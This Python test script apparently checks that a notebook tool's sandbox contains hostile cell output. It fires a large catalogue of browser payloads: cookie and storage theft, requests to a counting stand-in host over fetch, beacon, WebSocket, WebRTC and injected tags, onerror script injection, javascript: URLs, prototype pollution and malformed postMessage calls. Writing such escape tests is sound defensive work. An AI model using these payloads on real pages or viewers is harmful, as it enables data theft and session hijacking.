"""Hostile outputs: what a cell shows must not reach the page, its storage, the network or other windows.

`SINK` is the address of another server (host:port) that counts every request it sees. `SERVERS`: pages of servers try too.
"""

import json

from IPython.display import HTML, SVG, Javascript, Markdown, display

HERE = f"http://{SINK}"

SCRIPT = """
const HERE = %s;
const steal = [
  () => { parent.escaped = 1 },
  () => { top.document.title = 'escaped' },
  () => { top.location = HERE + '/top' },
  () => parent.carrel.execute('1'),
  () => { parent.escaped = localStorage.canary },
  () => { parent.escaped = sessionStorage.canary },
  () => { parent.escaped = document.cookie },
  () => indexedDB.open('canary'),
  () => caches.match('/canary'),
  () => fetch(HERE + '/fetch'),
  () => navigator.sendBeacon(HERE + '/beacon', 'x'),
  () => new WebSocket('ws' + HERE.slice(4) + '/socket'),
  () => new EventSource(HERE + '/events'),
  () => { const r = new XMLHttpRequest(); r.open('GET', HERE + '/xhr'); r.send() },
  () => { new Image().src = HERE + '/image' },
  () => open(HERE + '/popup'),
  () => { location.hash = 'x' },
  () => import(HERE + '/module.js'),
  () => new Worker(URL.createObjectURL(new Blob(['fetch("' + HERE + '/worker")']))),
  () => new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + HERE + '/shared")']))),
  () => navigator.serviceWorker.register('/sw.js'),
  () => new FontFace('x', 'url(' + HERE + '/font)').load(),
  () => { const f = document.createElement('form'); f.action = HERE + '/form'; f.method = 'post'; document.body.append(f); f.submit() },
  () => { const f = document.createElement('iframe'); f.src = HERE + '/frame'; document.body.append(f) },
  () => { const f = document.createElement('iframe'); f.srcdoc = '<img src=' + HERE + '/nested>'; document.body.append(f) },
  () => { const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.RTCPeerConnection() },
  () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = HERE + '/css'; document.head.append(l) },
  () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = HERE + '/prefetch'; document.head.append(l) },
  () => { const l = document.createElement('link'); l.rel = 'preload'; l.as = 'script'; l.href = HERE + '/preload'; document.head.append(l) },
  () => { const s = document.createElement('script'); s.src = HERE + '/script'; document.head.append(s) },
  () => { const s = document.createElement('style'); s.textContent = '@import url(' + HERE + '/import); body { background: url(' + HERE + '/background) }'; document.head.append(s) },
  () => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + HERE + '/refresh'; document.head.append(m) },
  () => { const a = document.createElement('a'); a.href = HERE + '/link'; a.ping = HERE + '/ping'; a.target = '_top'; document.body.append(a); a.click() },
  () => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + HERE.slice(7) }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)) },
  () => parent.postMessage({ kind: 'height', height: 1e308 }, '*'),
  () => parent.postMessage({ kind: 'height', height: { valueOf() { return 1 } } }, '*'),
];
for (const one of steal) { try { Promise.resolve(one()).catch(() => {}) } catch {} }
""" % json.dumps(HERE)

STATIC = f"""
<img src="{HERE}/img"><img srcset="{HERE}/srcset 1x"><picture><source srcset="{HERE}/source"><img></picture>
<p style="background: url({HERE}/style)">x</p><table background="{HERE}/table"><tr><td>x</td></tr></table>
<video poster="{HERE}/poster" src="{HERE}/video" autoplay></video><audio src="{HERE}/audio" autoplay></audio>
<link rel="stylesheet" href="{HERE}/link"><link rel="icon" href="{HERE}/icon">
<style>@import url({HERE}/css-import); body {{ background: url({HERE}/css) }} @font-face {{ font-family: x; src: url({HERE}/css-font) }} p {{ font-family: x }}</style>
<object data="{HERE}/object"></object><embed src="{HERE}/embed"><iframe src="{HERE}/iframe"></iframe>
<iframe srcdoc="<img src={HERE}/srcdoc>"></iframe>
<form action="{HERE}/form"><input name="a"><button id="b">x</button></form>
<meta http-equiv="refresh" content="0;url={HERE}/refresh"><base href="{HERE}/">
<svg><image href="{HERE}/svg-image" /><use href="{HERE}/svg-use#x" /></svg>
<img src=x onerror="parent.escaped=1; top.escaped=1; new Image().src='{HERE}/onerror'">
"""

SVG_TEXT = f"""<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="window.escaped=1">
<script>window.escaped = 1</script><image href="{HERE}/svg" width="9" height="9"/>
<style>rect {{ fill: url({HERE}/fill) }}</style><rect width="9" height="9"/>
<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{HERE}/foreign"/></foreignObject></svg>"""

display(HTML(STATIC))
display(HTML(f'<img src="{HERE}/inline"> <b style="background-image: url({HERE}/inline-style)">b</b>'))
display(HTML(f"<p>x</p><script>{SCRIPT}</script>"))
display(HTML(f"<script>location.href = '{HERE}/navigate'</script>"))
display(Javascript(SCRIPT))
display(SVG(SVG_TEXT))
display(Markdown(f"![x]({HERE}/markdown) <img src='{HERE}/markdown-html'> <script>window.escaped=1</script>\n\n{STATIC}"))
display({"text/html": "<b>x</b>", "__proto__": "polluted", "constructor": "polluted"}, raw=True)
display({"text/latex": rf"$\includegraphics{{{HERE}/latex}} \href{{javascript:window.escaped=1}}{{x}}$"}, raw=True)
print("\x1b]8;;javascript:window.escaped=1\x07x\x1b]8;;\x07 <img src=x onerror=window.escaped=1>")


# The same as pages of servers, and what only these may try: forms that the frame does not hear of, their port to the page.
FORM = """
const form = document.createElement('form');
form.action = HERE + '/native-form';
form.addEventListener('submit', (event) => event.stopPropagation());
document.body.append(form);
"""
PAGE = """
const CALL = 'const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:' + HERE.slice(7) + '" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o))';
const script = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
const post = (message) => carrelPort.postMessage(message);
const request = (url) => ({ method: 'GET', url, headers: [], body: null });
const leave = [
  () => { const f = document.createElement('iframe'); f.srcdoc = '<script src="' + script(CALL) + '"><\\/script>'; document.body.append(f) },
  () => { const f = document.createElement('iframe'); f.srcdoc = '<script type=module src="' + script(CALL) + '"><\\/script>'; document.body.append(f) },
  () => { for (let n = 0; n < parent.frames.length; n++) parent.frames[n].postMessage({ scripts: ['1'], kind: 'blob' }, '*') },
  () => { form.target = '_top'; form.requestSubmit() },
  () => { top['loc' + 'ation'] = HERE + '/preview-top' },
  () => { for (const url of [HERE, 'http://localhost:7002/', 'file:///', 'javascript:parent.escaped=1', 'http://[']) { post({ kind: 'go', request: request(url) }); post({ kind: 'address', url, isNew: true }); post({ kind: 'request', id: 1, request: request(url) }) } },
  () => { for (const bad of [null, 'go', { kind: '__proto__' }, { kind: 'stored', area: '__proto__', items: [['escaped', '1']] }, { kind: 'back', by: 1e9 }, { kind: 'title', title: { toString: 1 } }]) post(bad) },
  () => parent.postMessage({ kind: 'ready' }, '*'),
];
for (const one of leave) { try { one() } catch {} }
document.title = 'tried';
"""


def serve(port, page):
    from carrel import servers, servers_apps

    def application(_environ, start_response):
        start_response("200 OK", [("Content-Type", "text/html"), ("Refresh", f"0;url={HERE}/refresh-header")])
        return [page.encode()]

    servers.serve(port, f"Hostile {port}", servers_apps.wsgi(application, port))


if SERVERS:
    serve(7001, f"{STATIC}<script>{SCRIPT}{FORM}{PAGE}</script>")
    # These two end up nowhere.
    serve(7002, f"<script>const HERE = '{HERE}';{FORM}form.method = 'post'; form.requestSubmit()</script>")
    serve(7003, f"<script>window['loc' + 'ation'].href = '{HERE}/preview-navigate'</script>")
# Last, so that it is known when all before it is on the screen: a script that works, in a frame that fits it.
display(HTML('<div id="drawn"></div><script>const d = document.getElementById("drawn"); d.style.height = "345px"; d.textContent = "drawn";</script>'))
